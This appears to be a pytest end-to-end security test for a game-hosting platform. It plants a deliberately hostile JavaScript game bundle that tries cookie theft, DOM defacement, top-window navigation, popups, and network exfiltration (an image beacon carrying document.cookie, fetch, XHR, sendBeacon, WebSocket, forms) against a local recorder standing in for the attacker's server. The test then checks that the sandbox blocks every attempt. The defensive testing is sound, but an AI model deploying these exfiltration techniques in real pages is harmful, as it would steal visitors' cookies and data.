"""A hostile game in the real player, in real Chromium: it gets nothing and sends nothing.

The game below tries everything a bundle could try against the page that embeds it: read the
parent's cookies and DOM, rewrite the page, navigate the top window or its own frame away,
open a popup, submit a form, and reach the network by fetch, XHR, an image beacon, CSS, a
script tag, sendBeacon and a WebSocket. Every address it aims at is a local HTTP server that
records each request it receives. The test asserts on what the browser did: the recorder got
no request at all (while it does get the control request the page itself makes), the page is
unchanged, no popup exists, and the game's own report (the one channel it has, postMessage)
shows each attempt failing.
"""

from __future__ import annotations

import json
import threading
import time
import urllib.request
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest

from games import services
from tests.factories import UserFactory

pytestmark = pytest.mark.django_db(transaction=True)

EVIL_JS = r"""
(function () {
  "use strict";
  var R = window.GF_RECORDER;
  var report = {};
  function attempt(name, fn) {
    try { report[name] = "allowed: " + String(fn()).slice(0, 200); }
    catch (e) { report[name] = "blocked: " + (e && e.name); }
  }
  attempt("parent_cookie", function () { return window.parent.document.cookie; });
  attempt("top_cookie", function () { return window.top.document.cookie; });
  attempt("own_cookie", function () { return document.cookie; });
  attempt("parent_dom_read", function () { return window.parent.document.body.innerHTML.length; });
  attempt("parent_dom_write", function () { window.parent.document.getElementById("main").textContent = "PWNED"; return "written"; });
  attempt("parent_global", function () { return window.parent.GF_PLAYER.state(); });
  attempt("local_storage", function () { window.localStorage.setItem("x", "1"); return "stored"; });
  attempt("popup", function () { var w = window.open(R + "/popup"); return w === null ? null : "opened"; });
  attempt("fetch", function () { fetch(R + "/fetch", {mode: "no-cors"}).catch(function () {}); return "called"; });
  attempt("xhr", function () { var x = new XMLHttpRequest(); x.open("GET", R + "/xhr"); x.send(); return "sent"; });
  attempt("image", function () { var i = new Image(); i.src = R + "/image?c=" + encodeURIComponent(document.cookie || ""); document.body.appendChild(i); return "appended"; });
  attempt("css", function () { document.body.style.backgroundImage = "url(" + R + "/css)"; return "styled"; });
  attempt("script", function () { var s = document.createElement("script"); s.src = R + "/script.js"; document.head.appendChild(s); return "appended"; });
  attempt("prefetch", function () { var l = document.createElement("link"); l.rel = "prefetch"; l.href = R + "/prefetch"; document.head.appendChild(l); return "appended"; });
  attempt("beacon", function () { return navigator.sendBeacon(R + "/beacon", "data"); });
  attempt("websocket", function () { var ws = new WebSocket(R.replace("http", "ws") + "/ws"); return ws.readyState; });
  attempt("worker", function () { new Worker(R + "/worker.js"); return "created"; });
  attempt("form", function () {
    var f = document.createElement("form"); f.method = "POST"; f.action = R + "/form"; f.target = "_top";
    document.body.appendChild(f); f.submit(); return "submitted";
  });
  report.origin = String(self.origin);
  window.parent.postMessage({gf: 1, kind: "probe", report: report}, "*");
  // Last, the navigations (if one worked, this script would stop here). Opened directly, as the
  // top window, navigating itself is just following a link: only tried from inside a frame.
  if (window.top !== window) setTimeout(function () {
    try { window.top.location.href = R + "/top"; } catch (e) { /* blocked */ }
    try { window.parent.location.href = R + "/parent"; } catch (e) { /* blocked */ }
    setTimeout(function () { window.location.href = R + "/self"; }, 300);
  }, 300);
})();
"""

INDEX_HTML = """<!doctype html>
<html><head><meta charset="utf-8"><title>Totally a game</title></head>
<body><p>Playing...</p>
<script src="config.js"></script>
<script src="evil.js"></script>
</body></html>
"""


class Recorder:
    """A local HTTP server that records every request it gets (the attacker's endpoint)."""

    def __init__(self):
        self.hits: list[str] = []
        recorder = self

        class Handler(BaseHTTPRequestHandler):
            def log_message(self, *args):
                pass

            def _record(self):
                recorder.hits.append(f"{self.command} {self.path}")
                self.send_response(200)
                self.send_header("Content-Type", "text/plain")
                self.send_header("Access-Control-Allow-Origin", "*")
                self.send_header("Content-Length", "2")
                self.end_headers()
                self.wfile.write(b"ok")

            do_GET = do_POST = do_HEAD = do_OPTIONS = _record  # noqa: N815

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.server.daemon_threads = True
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.server.server_address[1]}"

    def __enter__(self):
        self.thread.start()
        return self

    def __exit__(self, *exc):
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture
def recorder():
    with Recorder() as rec:
        # control: the recorder does record what reaches it
        urllib.request.urlopen(rec.url + "/control-from-test", timeout=5).read()
        assert rec.hits == ["GET /control-from-test"]
        rec.hits.clear()
        yield rec


@pytest.fixture
def hostile_game(settings, tmp_path, live_server, recorder, spec_for_e2e):
    settings.MEDIA_ROOT = tmp_path / "media"
    settings.VAR_DIR = tmp_path / "var"
    settings.SITE_URL = live_server.url
    bundle = tmp_path / "bundle"
    bundle.mkdir()
    (bundle / "index.html").write_text(INDEX_HTML)
    (bundle / "evil.js").write_text(EVIL_JS)
    (bundle / "config.js").write_text(f"window.GF_RECORDER = {json.dumps(recorder.url)};\n")
    creator = UserFactory()
    version = services.game_publish(
        creator=creator,
        spec=spec_for_e2e,
        origin="factory",
        provenance={"test": "hostile"},
        bundle_dir=bundle,
        # The scenario: a hostile bundle that fooled the factory's playtest. The sandbox is the last line.
        playtest={"passed": True, "source": "factory", "note": "fooled by the hostile bundle"},
    )
    return version.game


@pytest.fixture(scope="session")
def spec_for_e2e():
    from generation.designer import spec_from_prompt

    return spec_from_prompt(prompt="a snake", seed=1, mechanic="snake")


def test_a_hostile_game_gets_nothing_and_sends_nothing(browser, live_server, recorder, hostile_game):
    # given: a signed-in looking visitor with a readable cookie on the platform
    context = browser.new_context()
    host = live_server.url.split("//")[1].split(":")[0]
    context.add_cookies([{"name": "gf_secret", "value": "topsecret", "domain": host, "path": "/"}])
    context.add_init_script(
        "window.addEventListener('message', function (e) { (window.__probes = window.__probes || []).push(e.data); });"
    )
    page = context.new_page()
    popups = []
    context.on("page", lambda p: popups.append(p.url))
    url = f"{live_server.url}/games/{hostile_game.slug}/"

    # when
    page.goto(url)
    page.wait_for_function(
        "(window.__probes || []).some(function (m) { return m && m.kind === 'probe'; })", timeout=15000
    )
    page.wait_for_timeout(2000)  # time for the delayed navigations and any late request

    # then: the game ran, and each of its attempts failed
    report = page.evaluate("window.__probes.find(function (m) { return m.kind === 'probe'; }).report")
    for name in (
        "parent_cookie",
        "top_cookie",
        "own_cookie",
        "parent_dom_read",
        "parent_dom_write",
        "parent_global",
        "local_storage",
    ):
        assert report[name].startswith("blocked"), (name, report[name])
    assert report["popup"] == "allowed: null"  # window.open gave nothing
    assert report["origin"] == "null"  # an opaque origin, whatever its URL
    assert "topsecret" not in json.dumps(report)
    # ... the browser sent nothing anywhere ...
    assert recorder.hits == []
    # ... the page is where it was, as it was, alone
    assert page.url == url
    assert "PWNED" not in page.content() and page.locator("h1").inner_text() == hostile_game.title
    assert popups == [] and len(context.pages) == 1
    # control: the same browser, from the page itself, does reach the recorder
    page.evaluate("(u) => fetch(u + '/control-from-page', {mode: 'no-cors'})", recorder.url)
    deadline = time.monotonic() + 5
    while not recorder.hits and time.monotonic() < deadline:
        time.sleep(0.05)
    assert recorder.hits == ["GET /control-from-page"]
    context.close()


def test_a_bundle_opened_directly_is_still_sandboxed(browser, live_server, recorder, hostile_game):
    # given: someone follows a link to the bundle itself, outside the player
    context = browser.new_context()
    page = context.new_page()
    version = hostile_game.current_version
    page.add_init_script(
        "window.addEventListener('message', function (e) { window.__report = e.data && e.data.report; });"
    )
    # when
    page.goto(f"{live_server.url}/play/{version.pk}/{version.bundle_hash}/index.html")
    page.wait_for_function("!!window.__report", timeout=10000)
    page.wait_for_timeout(1000)
    # then: the CSP's own sandbox gives it an opaque origin, no platform cookies or storage, no network
    report = page.evaluate("window.__report")
    assert report["origin"] == "null" and page.evaluate("self.origin") == "null"
    for name in ("own_cookie", "local_storage"):
        assert report[name].startswith("blocked"), (name, report[name])
    assert report["popup"] == "allowed: null"
    assert recorder.hits == []
    context.close()
